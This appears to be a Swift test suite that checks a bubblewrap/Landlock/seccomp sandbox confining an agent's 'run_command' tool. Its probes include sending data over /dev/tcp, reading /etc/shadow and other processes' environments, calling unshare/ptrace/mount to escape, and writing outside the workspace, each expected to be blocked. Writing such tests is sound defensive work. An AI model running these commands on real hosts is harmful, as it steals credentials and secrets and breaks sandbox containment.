import Foundation
import OspreyCore
import OspreySandbox
import OspreyTesting
import OspreyTools
import Testing

#if canImport(Glibc)
import Glibc
#endif

/// Commands under the bubblewrap rung (`.ci/run` installs bubblewrap): the sandbox is really applied, fail closed.
@Suite(.serialized)
struct SandboxTests {
    static func run(
        _ command: String,
        sandbox: Sandbox,
        jail: JailFixture,
        adjust: (inout ToolContext) -> Void = { _ in }
    ) async throws -> ToolResult {
        try await jail.call("run_command", JSONValue.object(["command": .string(command)]).canonicalJSON) {
            $0.sandbox = sandbox
            adjust(&$0)
        }
    }

    static func bubblewrap() throws -> Sandbox {
        let sandbox = Sandbox.resolve(backend: "auto", hidden: [])
        guard case .bubblewrap = sandbox.rung else {
            throw ProcessFailure(message: "bubblewrap is not installed: run scripts/install-deps")
        }
        return sandbox
    }

    @Test func commandsRunWithNoCapabilitiesNoNewPrivilegesAndTheirOwnNamespaces() async throws {
        let jail = try JailFixture()
        defer { jail.directory.remove() }
        let result = try await Self.run(
            "grep -E '^(CapEff|NoNewPrivs)' /proc/self/status; readlink /proc/self/ns/net /proc/self/ns/pid; "
                + "echo open files $(ulimit -n); echo file size $(ulimit -f); echo ok > made.txt",
            sandbox: try Self.bubblewrap(),
            jail: jail
        )
        #expect(!result.isError, "\(result.output)")
        #expect(result.output.contains("CapEff:\t0000000000000000"))
        #expect(result.output.contains("NoNewPrivs:\t1"))
        #expect(result.output.contains("open files 1024"), "\(result.output)")
        #expect(result.output.contains("file size 2097152"))
        let ours = try FileManager.default.destinationOfSymbolicLink(atPath: "/proc/self/ns/net")
        #expect(result.output.contains("net:["))
        #expect(!result.output.contains(ours))
        // The workspace stays writable.
        #expect(
            try String(contentsOf: jail.workspace.root.appendingPathComponent("made.txt"), encoding: .utf8) == "ok\n"
        )
    }

    @Test func filesOutsideTheWorkspaceAreNotThere() async throws {
        let jail = try JailFixture()
        defer { jail.directory.remove() }
        let result = try await Self.run(
            "cat ../outside/secret.txt; cat \(jail.directory.path)/outside/secret.txt; echo done",
            sandbox: try Self.bubblewrap(),
            jail: jail
        )
        #expect(result.output.contains("done"))
        #expect(!result.output.contains(JailFixture.canary))
    }

    @Test func aLoopbackListenerReceivesNothingFromASandboxedCommand() async throws {
        let jail = try JailFixture()
        defer { jail.directory.remove() }
        // A canary listener on the host's loopback.
        let listener = try LoopbackListener()
        let port = listener.port
        let result = try await Self.run(
            "bash -c 'echo stolen > /dev/tcp/127.0.0.1/\(port)' && echo sent || echo blocked",
            sandbox: try Self.bubblewrap(),
            jail: jail
        )
        #expect(result.output.contains("blocked"), "\(result.output)")
        #expect(listener.connections() == 0, "the canary listener received a connection")
    }

    /// A PATH with prlimit but without bwrap.
    static func pathWithoutBubblewrap(_ directory: TemporaryDirectory) throws -> String {
        let bin = directory.url.appendingPathComponent("bin")
        try FileManager.default.createDirectory(at: bin, withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(
            atPath: bin.appendingPathComponent("prlimit").path,
            withDestinationPath: "/usr/bin/prlimit"
        )
        return bin.path
    }

    @Test func everyLayerOfTheLadderIsInForceInsideTheCommand() async throws {
        let sandbox = try Self.bubblewrap()
        let layers = await SandboxProbe.run(sandbox)
        let names = Set(layers.map(\.name))
        #expect(
            names.isSuperset(of: [
                "rlimits", "no_new_privs", "seccomp", "landlock", "namespaces", "pid_namespace", "capabilities",
            ])
        )
        for layer in layers { #expect(layer.active, "\(layer.name)\(layer.detail)") }
        // The process rung keeps rlimits, Landlock, seccomp, a PID namespace and no capabilities.
        let full = await SandboxProbe.run(sandbox.withoutNamespaces)
        #expect(Set(full.map(\.name)).isSuperset(of: ["landlock", "seccomp", "pid_namespace", "capabilities"]))
        for layer in full { #expect(layer.active, "\(layer.name)\(layer.detail)") }
    }

    @Test func seccompRefusesNamespaceEscapesAndPtrace() async throws {
        let jail = try JailFixture()
        defer { jail.directory.remove() }
        // A script file (inline interpreter code would need an approval) that tries what exploits start with.
        try """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        print("unshare", libc.unshare(0x10000000), ctypes.get_errno())
        print("ptrace", libc.ptrace(16, 1, 0, 0), ctypes.get_errno())
        print("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), ctypes.get_errno())
        """.write(to: jail.workspace.root.appendingPathComponent("escape.py"), atomically: true, encoding: .utf8)
        for sandbox in [try Self.bubblewrap(), try Self.bubblewrap().withoutNamespaces] {
            let result = try await Self.run("python3 escape.py", sandbox: sandbox, jail: jail) {
                $0.capabilities = Capabilities(exec: .full, approval: .autonomous)
            }
            // EPERM (1) from the filter for each.
            for call in ["unshare", "ptrace", "mount"] {
                #expect(result.output.contains("\(call) -1 1"), "\(sandbox.name): \(result.output)")
            }
        }
    }

    @Test func withoutNamespacesLandlockStillConfinesFilesAndNetwork() async throws {
        let jail = try JailFixture()
        defer { jail.directory.remove() }
        let outside = jail.directory.url.appendingPathComponent("outside")
        let result = try await Self.run(
            "echo pwned > \(outside.path)/written.txt; cat \(outside.path)/secret.txt; echo x > inside.txt && echo wrote-inside",
            sandbox: try Self.bubblewrap().withoutNamespaces,
            jail: jail
        ) { $0.capabilities = Capabilities(exec: .full, approval: .autonomous) }
        #expect(result.output.contains("wrote-inside"), "\(result.output)")
        #expect(!result.output.contains(JailFixture.canary))
        #expect(!FileManager.default.fileExists(atPath: outside.appendingPathComponent("written.txt").path))
    }

    @Test func aGrantedWriteRootIsWritableAndNothingElse() async throws {
        let jail = try JailFixture()
        defer { jail.directory.remove() }
        let shared = jail.directory.url.appendingPathComponent("shared")
        try FileManager.default.createDirectory(at: shared, withIntermediateDirectories: true)
        let result = try await Self.run(
            "echo ok > \(shared.path)/out.txt && echo shared-ok; cat \(jail.directory.path)/outside/secret.txt",
            sandbox: try Self.bubblewrap(),
            jail: jail
        ) { context in context.roots = [FileRoot(path: shared.path, writable: true)].compactMap { $0 } }
        #expect(result.output.contains("shared-ok"), "\(result.output)")
        #expect(!result.output.contains(JailFixture.canary))
    }

    @Test func commandsJoinTheirOwnCgroupWithMemoryAndProcessLimits() async throws {
        // Limits no other test uses, so this command's groups are recognisable among concurrent ones.
        var limits = Sandbox.Limits()
        limits.processes = 77
        limits.memoryBytes = 300 << 20
        let sandbox = Sandbox.resolve(backend: "auto", hidden: [], limits: limits)
        guard let groups = sandbox.controlGroups else {
            // cgroup v1 is "where available"; doctor reports its absence.
            return
        }
        let jail = try JailFixture()
        defer { jail.directory.remove() }
        // The command's cgroup namespace hides the path from inside: watch its group from outside while it runs. It
        // runs until the test has seen its group (or given up, after 30 s) and creates `go` in its workspace, so a
        // slow start under load cannot end it before it is seen.
        let go = jail.workspace.root.appendingPathComponent("go")
        async let ran = Self.run(
            "while [ ! -e go ]; do sleep 0.02; done; echo finished",
            sandbox: sandbox,
            jail: jail
        )
        var seen: (name: String, limit: String, memory: String)?
        for _ in 0..<1500 where seen == nil {
            try await Task.sleep(for: .milliseconds(20))
            let names = (try? FileManager.default.contentsOfDirectory(atPath: groups.pids)) ?? []
            for name in names where name.hasPrefix("cmd-") {
                let pids = groups.pids + "/" + name
                let members = (try? String(contentsOfFile: pids + "/cgroup.procs", encoding: .utf8)) ?? ""
                let limit = (try? String(contentsOfFile: pids + "/pids.max", encoding: .utf8)) ?? ""
                guard !members.isEmpty, limit == "77\n" else { continue }
                seen = (
                    name,
                    (try? String(contentsOfFile: pids + "/pids.max", encoding: .utf8)) ?? "",
                    (try? String(contentsOfFile: groups.memory + "/" + name + "/memory.limit_in_bytes", encoding: .utf8))
                        ?? ""
                )
            }
        }
        try Data().write(to: go)
        let result = try await ran
        #expect(result.output.contains("finished"), "\(result.output)")
        let group = try #require(seen, "no command cgroup had members while the command ran")
        #expect(group.limit.trimmingCharacters(in: .whitespacesAndNewlines) == "\(sandbox.limits.processes)")
        // The kernel rounds the memory limit down to whole pages.
        #expect(Int(group.memory.trimmingCharacters(in: .whitespacesAndNewlines)) == sandbox.limits.memoryBytes)
        // The command's groups are removed once it has ended.
        #expect(!FileManager.default.fileExists(atPath: groups.pids + "/" + group.name))
        #expect(!FileManager.default.fileExists(atPath: groups.memory + "/" + group.name))
    }

    @Test func aSandboxedCommandIsNotRootAndSeesNoSecretsOfTheHost() async throws {
        let jail = try JailFixture()
        defer { jail.directory.remove() }
        let result = try await Self.run(
            "echo uid=$(id -u); cat /etc/shadow && echo READ-SHADOW; cat /etc/gshadow && echo READ-GSHADOW; "
                + "ls -A /root /home && echo LISTED-HOMES; echo listed",
            sandbox: try Self.bubblewrap(),
            jail: jail
        )
        #expect(result.output.contains("listed"), "\(result.output)")
        #expect(!result.output.contains("uid=0"), "\(result.output)")
        #expect(!result.output.contains("READ-SHADOW") && !result.output.contains("READ-GSHADOW"), "\(result.output)")
        #expect(!result.output.contains("root:"), "\(result.output)")
        #expect(!result.output.contains("LISTED-HOMES"), "\(result.output)")
    }

    @Test func theFullRungCannotReadTheHostsPasswordHashes() async throws {
        let jail = try JailFixture()
        defer { jail.directory.remove() }
        let result = try await Self.run(
            "cat /etc/shadow && echo READ-SHADOW; cat /etc/gshadow && echo READ-GSHADOW; ls /root && echo LISTED-ROOT; "
                + "cat /etc/passwd | head -1",
            sandbox: try Self.bubblewrap().withoutNamespaces,
            jail: jail
        ) { $0.capabilities = Capabilities(exec: .full, approval: .autonomous) }
        #expect(!result.output.contains("READ-SHADOW") && !result.output.contains("READ-GSHADOW"), "\(result.output)")
        #expect(!result.output.contains("LISTED-ROOT"), "\(result.output)")
        // /etc itself stays readable.
        #expect(result.output.contains("root:x:0:0"), "\(result.output)")
    }

    @Test func theFullRungHasNoCapabilitiesAndNoDevicesOfTheHost() async throws {
        let jail = try JailFixture()
        defer { jail.directory.remove() }
        let result = try await Self.run(
            "grep CapEff /proc/self/status; for device in /dev/vda /dev/sda /dev/nvme0n1 /dev/kmsg /dev/loop0; do "
                + "test -e $device && head -c 1 $device > /dev/null 2>&1 && echo OPENED-$device; done; "
                + "head -c 4 /dev/urandom | wc -c",
            sandbox: try Self.bubblewrap().withoutNamespaces,
            jail: jail
        ) { $0.capabilities = Capabilities(exec: .full, approval: .autonomous) }
        #expect(result.output.contains("CapEff:\t0000000000000000"), "\(result.output)")
        #expect(!result.output.contains("OPENED-"), "\(result.output)")
        // The harmless devices stay usable.
        #expect(result.output.contains("\n4\n"), "\(result.output)")
    }

    @Test func onTheFullRungTheGatewayIsInvisibleAndNothingOutlivesTheCommand() async throws {
        let jail = try JailFixture()
        defer { jail.directory.remove() }
        // Given a secret in the gateway's environment and a probe script in the workspace
        setenv("OSPREY_PLANTED_SECRET", "planted-7c1e", 1)
        defer { unsetenv("OSPREY_PLANTED_SECRET") }
        let gateway = getpid()
        try """
        cat /proc/$PPID/environ /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep planted-7c1e
        kill -0 \(gateway) 2>/dev/null && echo GATEWAY-REACHABLE || echo gateway-unreachable
        echo processes $(ls /proc | grep -c '^[0-9]')
        setsid sleep 86399.25 > /dev/null 2>&1 < /dev/null &
        grep pids /proc/self/cgroup
        """.write(to: jail.workspace.root.appendingPathComponent("probe.sh"), atomically: true, encoding: .utf8)
        // When it runs on the full rung
        let result = try await Self.run("sh probe.sh", sandbox: try Self.bubblewrap().withoutNamespaces, jail: jail) {
            $0.capabilities = Capabilities(exec: .full, approval: .autonomous)
        }
        defer { for pid in HostProcesses.containing("86399.25") { kill(pid, SIGKILL) } }
        // Then it saw neither the gateway's environment nor the gateway
        #expect(result.output.contains("gateway-unreachable"), "\(result.output)")
        #expect(!result.output.contains("planted-7c1e"), "\(result.output)")
        let count = result.output.components(separatedBy: "processes ").last.flatMap { Int($0.prefix { $0.isNumber }) }
        #expect((count ?? 1000) < 10, "\(result.output)")
        // And its daemon and its cgroup are gone once it has returned
        try await Task.sleep(for: .milliseconds(200))
        #expect(HostProcesses.containing("86399.25").isEmpty, "a setsid daemon outlived its command")
        if let groups = Sandbox.resolve(backend: "auto", hidden: []).controlGroups,
            let line = result.output.split(separator: "\n").first(where: { $0.contains("pids:") }),
            let name = line.split(separator: "/").last
        {
            #expect(name.hasPrefix("cmd-"), "\(line)")
            #expect(!FileManager.default.fileExists(atPath: groups.pids + "/" + name), "cgroup \(name) left behind")
            #expect(!FileManager.default.fileExists(atPath: groups.memory + "/" + name), "cgroup \(name) left behind")
        }
    }

    @Test func withoutBubblewrapCommandsAreRefusedNotRunBare() async throws {
        let jail = try JailFixture()
        defer { jail.directory.remove() }
        let missing = Sandbox.resolve(
            backend: "auto",
            hidden: [],
            searchPath: try Self.pathWithoutBubblewrap(jail.directory)
        )
        let result = try await Self.run("touch marker", sandbox: missing, jail: jail)
        #expect(result.isError)
        #expect(result.output.contains("bubblewrap"))
        #expect(!FileManager.default.fileExists(atPath: jail.workspace.root.appendingPathComponent("marker").path))
        // Process limits only is a choice the configuration has to make explicitly.
        let chosen = try await Self.run(
            "touch marker",
            sandbox: Sandbox.resolve(backend: "process", hidden: []),
            jail: jail
        )
        #expect(!chosen.isError, "\(chosen.output)")
        // Without Landlock in the kernel, or without the jail, nothing runs either.
        let noLandlock = Sandbox.resolve(backend: "auto", hidden: [], landlockABI: -38)
        #expect(try await Self.run("touch marker2", sandbox: noLandlock, jail: jail).output.contains("Landlock"))
        let noJail = Sandbox.resolve(backend: "auto", hidden: [], jail: "/nonexistent/osprey-jail")
        #expect(try await Self.run("touch marker2", sandbox: noJail, jail: jail).output.contains("osprey-jail"))
        #expect(!FileManager.default.fileExists(atPath: jail.workspace.root.appendingPathComponent("marker2").path))
    }
}
